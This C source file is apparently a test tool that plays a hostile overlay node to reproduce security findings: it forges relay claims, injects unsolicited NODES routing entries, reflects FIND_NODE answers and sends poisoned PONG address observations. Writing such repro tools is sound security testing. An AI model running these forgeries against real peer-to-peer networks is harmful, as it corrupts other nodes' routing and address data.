/* ovlforge: a hostile overlay node for the network tests (issue 17,
 * finding 2).  Under its own key it PINGs a node claiming PUBLIC|RELAY,
 * sends it a NODES that answers nothing (a made-up txid) naming another
 * key as a NATed node it has a path to, then prints the type of every
 * overlay message it gets for a while, one a line ("rx CHANNEL_BIND").
 *
 * Usage: ovlforge KEYFILE NAMESPACE TO_IP TO_PORT TO_PUB NAMED_PUB NAMED_IP
 *                 NAMED_PORT SECONDS [COUNT]
 * COUNT (1-20, default 1): the NODES names that many keys at NAMED_IP:
 * NAMED_PUB and keys made from it by changing its last byte; given, it
 * also answers every FIND_NODE with such a NODES under the request's txid
 * (finding 3, reflection: test/net/repro/reflect.sh).  With OVLFORGE_OBSERVED=IP:PORT
 * in the environment it answers every PING with a PONG saying it saw the
 * sender there (finding 4, observation poisoning: repro/natobs.sh).
 * KEYFILE holds a private key as `wh genkey` writes it; keys are base64. */
#include "forge.h"

#include "proto/overlay/addr.h"
#include "proto/overlay/codec.h"
#include "proto/overlay/secure.h"

#include <poll.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* A NODES under txid naming count keys at a: key and its last byte
 * changed. */
static void make_nodes(struct ovl_msg *m, uint64_t txid, const uint8_t key[32],
		       const struct ovl_addr *a, int count)
{
	int i;

	memset(m, 0, sizeof(*m));
	m->type = OVL_MSG_NODES;
	m->u.nodes.txid = txid;
	m->u.nodes.count = (uint8_t)count;
	for (i = 0; i < count; ++i) {
		memcpy(m->u.nodes.nodes[i].key, key, 32);
		m->u.nodes.nodes[i].key[31] = (uint8_t)(key[31] + i);
		m->u.nodes.nodes[i].addr = *a;
		m->u.nodes.nodes[i].flags = 0;
	}
}

int main(int argc, char **argv)
{
	struct ovl_secure *sec;
	struct sockaddr_in to_sa;
	struct ovl_addr named_a, lie_a;
	const char *lie = getenv("OVLFORGE_OBSERVED");
	char lie_ip[64];
	uint8_t priv[32], to_pub[32], named_pub[32];
	struct ovl_msg m;
	uint64_t end;
	int fd, i, count = argc == 11 ? atoi(argv[10]) : 1;

	if ((argc != 10 && argc != 11) || count < 1 || count > OVL_K) {
		fprintf(stderr, "usage: ovlforge KEYFILE NAMESPACE TO_IP TO_PORT TO_PUB NAMED_PUB "
				"NAMED_IP NAMED_PORT SECONDS [COUNT]\n");
		return 2;
	}
	if (sodium_init() < 0 || forge_key_from_file(argv[1], priv) < 0 ||
	    forge_key_from_b64(argv[5], to_pub) < 0 || forge_key_from_b64(argv[6], named_pub) < 0 ||
	    forge_v4addr(argv[3], argv[4], NULL, &to_sa) < 0 ||
	    forge_v4addr(argv[7], argv[8], &named_a, NULL) < 0)
		return 2;
	if (lie) {
		const char *colon = strrchr(lie, ':');

		if (!colon || (size_t)(colon - lie) >= sizeof(lie_ip))
			return 2;
		memcpy(lie_ip, lie, (size_t)(colon - lie));
		lie_ip[colon - lie] = 0;
		if (forge_v4addr(lie_ip, colon + 1, &lie_a, NULL) < 0)
			return 2;
	}
	sec = forge_secure_new(priv, argv[2]);
	sodium_memzero(priv, sizeof(priv));
	if (!sec)
		return 2;
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0) {
		perror("ovlforge: socket");
		return 1;
	}
	/* "I am a public relay", padded as a PUBLIC node's PING is. */
	memset(&m, 0, sizeof(m));
	m.type = OVL_MSG_PING;
	m.u.ping.flags = OVL_NODE_PUBLIC | OVL_NODE_RELAY;
	m.u.ping.pad_len = 17;
	for (i = 0; i < 3; ++i) {
		randombytes_buf(&m.u.ping.nonce, sizeof(m.u.ping.nonce));
		forge_send(fd, sec, to_pub, &to_sa, &m);
	}
	usleep(300 * 1000);
	/* "I have a live path to this NATed node": an answer to nothing. */
	make_nodes(&m, randombytes_random(), named_pub, &named_a, count);
	forge_send(fd, sec, to_pub, &to_sa, &m);
	printf("sent PING x3, NODES of %d\n", count);
	fflush(stdout);
	end = forge_mono_ms() + (uint64_t)atoi(argv[9]) * 1000ull;
	while (forge_mono_ms() < end) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		struct sockaddr_in from;
		uint8_t sender[32];

		if (poll(&p, 1, 100) <= 0)
			continue;
		if (forge_recv(fd, sec, sender, &m, &from) > 0) {
			printf("rx %s\n", ovl_msg_type_name(m.type));
			if (argc == 11 && m.type == OVL_MSG_FIND_NODE) {
				make_nodes(&m, m.u.find_node.txid, named_pub, &named_a, count);
				if (forge_send(fd, sec, sender, &from, &m) > 0)
					printf("tx NODES of %d\n", count);
			} else if (lie && m.type == OVL_MSG_PING) {
				uint64_t nonce = m.u.ping.nonce;

				memset(&m, 0, sizeof(m));
				m.type = OVL_MSG_PONG;
				m.u.pong.nonce = nonce;
				m.u.pong.flags = OVL_NODE_PUBLIC | OVL_NODE_RELAY;
				m.u.pong.observed = lie_a;
				if (forge_send(fd, sec, sender, &from, &m) > 0)
					printf("tx PONG observed %s\n", lie);
			}
		}
		fflush(stdout);
	}
	close(fd);
	ovl_secure_free(sec);
	return 0;
}
